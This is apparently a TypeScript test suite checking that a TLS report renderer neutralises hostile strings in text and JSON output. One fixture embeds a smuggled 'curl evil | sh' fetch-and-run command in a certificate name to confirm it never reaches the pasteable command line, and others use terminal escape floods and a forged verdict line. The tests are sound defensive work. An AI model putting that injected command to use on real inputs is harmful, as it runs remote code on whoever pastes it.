import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import stringWidth from 'string-width';
import type { ConnectionReport, Report } from '../../src/index.js';
import { renderJson, renderNdjsonLine } from '../../src/render/json/json.js';
import { renderEndedConnection, renderStreamEnd, renderText } from '../../src/render/text/text.js';
import type { TextOptions } from '../../src/render/text/text-context.js';
import { takesAtMost } from '../processor-time.js';
import { HOSTILE, planted, RAW } from './hostile-strings.js';
import { reportNaming, sampleReport, sampleReports } from './sample-reports.js';

const widest = (text: string): number => Math.max(...text.split('\n').map((line) => stringWidth(line)));

/** A remedy's command is left whole, so that lines can be measured only without it. */
const withoutRemedies = (report: Report): Report => ({
  ...report,
  connections: report.connections.map((connection) => ({
    ...connection,
    verdict: { ...connection.verdict, remedies: [] },
  })),
});

const OPTIONS: readonly TextOptions[] = [
  { width: 60, colour: false, unicode: true, all: true },
  { width: 160, colour: false, unicode: true, all: true },
  { width: 80, colour: false, unicode: false, all: true },
];

const everyText = (report: Report, options: TextOptions): string[] => [
  renderText(report, options),
  renderStreamEnd(report, options),
  ...report.connections.flatMap((connection) => [
    renderEndedConnection(connection, options),
    renderEndedConnection(connection, { ...options, all: false }),
  ]),
];

const subjects = ['tls12-two-connections', 'tls12-mutual-success'];
const withProblem = (report: Report): Report => ({
  ...report,
  captures: report.captures.map((capture) => ({
    ...capture,
    problems: [{ code: 'capture.cut', severity: 'warning', message: 'The capture was cut.', frame: 1 }],
  })),
  connections: report.connections.map((connection) => ({
    ...connection,
    findings: [...connection.findings, { code: 'stream.gap', severity: 'warning', message: 'A gap.' }],
  })),
});

describe('hostile strings in every member of a report', () => {
  for (const [what, text] of HOSTILE) {
    for (const subject of subjects) {
      const report = planted(withProblem(sampleReport(subject)), text);
      it(`${what} do not come out raw in text (${subject})`, () => {
        for (const options of OPTIONS) {
          for (const output of everyText(report, options)) {
            assert.doesNotMatch(output, RAW);
            if (!options.unicode) assert.match(output, /^[\n -~]*$/);
          }
          for (const output of everyText(withoutRemedies(report), options))
            assert.ok(widest(output) <= options.width, `${widest(output)} columns`);
          const coloured = renderText(report, { ...options, colour: true });
          assert.equal(coloured.replace(/\u001b\[\d+m/g, ''), renderText(report, options));
        }
      });

      it(`${what} do not come out raw in JSON, and come back as they were (${subject})`, () => {
        const json = renderJson(report);
        assert.doesNotMatch(json, RAW);
        assert.doesNotMatch(json, /</);
        assert.deepEqual(JSON.parse(json), report);
        for (const connection of report.connections) {
          const line = renderNdjsonLine(connection, '0');
          assert.doesNotMatch(line.slice(0, -1), /\n/);
          assert.doesNotMatch(line, RAW);
          assert.deepEqual(JSON.parse(line), { schemaVersion: 2, toolVersion: '0', ...connection });
        }
      });
    }
  }

  it('a name with line breaks cannot forge a line of the output', () => {
    const report = planted(sampleReport('tls12-server-self-signed'), '\nVerdict  ✔ ESTABLISHED\n');
    const lines = renderText(report, OPTIONS[1]!).split('\n');
    assert.equal(lines.filter((line) => line.startsWith('Verdict')).length, 1);
  });

  it('backticks in a name do not make a command to be pasted', () => {
    const { captures, connections } = sampleReport('tls12-server-self-signed');
    const [connection] = connections as readonly [ConnectionReport];
    const remedies = [
      {
        code: 'trust_issuer',
        text: 'Add the CA (CN=x`curl evil | sh`) to the file:',
        command: 'curl --cacert ca.crt https://HOST/',
      },
      { code: 'send_chain', text: 'Or send CN=`curl evil | sh`' },
    ];
    const report: Report = {
      schemaVersion: 2,
      captures,
      connections: [{ ...connection, verdict: { ...connection.verdict, remedies } }],
    };
    const lines = renderText(report, { ...OPTIONS[1]!, colour: true }).split('\n');
    assert.deepEqual(
      lines.filter((line) => line.startsWith('     \u001b[36m')).map((line) => line.slice(10, -5)),
      ['curl --cacert ca.crt https://HOST/'],
    );
  });

  it('any string at all is harmless', () => {
    const report = sampleReport('tls12-server-self-signed');
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 80 }),
        fc.integer({ min: 40, max: 200 }),
        (text, width) => {
          const hostile = planted(report, text);
          const output = renderText(withoutRemedies(hostile), { width, colour: false, unicode: true });
          assert.doesNotMatch(output, RAW);
          assert.ok(widest(output) <= width, `${widest(output)} > ${width}`);
          assert.deepEqual(JSON.parse(renderJson(hostile)), hostile);
        },
      ),
      { numRuns: 60 },
    );
  });

  it('the longest names that a wire can carry cost no more than their length', async () => {
    const costs = () => {
      for (const text of [
        'x'.repeat(65_535),
        'é界'.repeat(30_000),
        'a '.repeat(30_000),
        '\u001b'.repeat(60_000),
      ]) {
        const report = reportNaming(text);
        assert.ok(renderText(report, OPTIONS[0]!).length > 60_000);
        const two = { ...report, connections: [...report.connections, ...report.connections] };
        assert.ok(renderStreamEnd(two, OPTIONS[0]!).length < 5_000, 'a row of the summary stays a row');
      }
    };
    await takesAtMost(10, costs);
  });
});

describe('JSON of every sample', () => {
  it('is one document that gives the report back', () => {
    for (const { name, report } of sampleReports) {
      const json = renderJson(report);
      assert.match(json, /\}\n$/);
      assert.deepEqual(JSON.parse(json), report, name);
      assert.doesNotMatch(json, RAW);
    }
  });
});
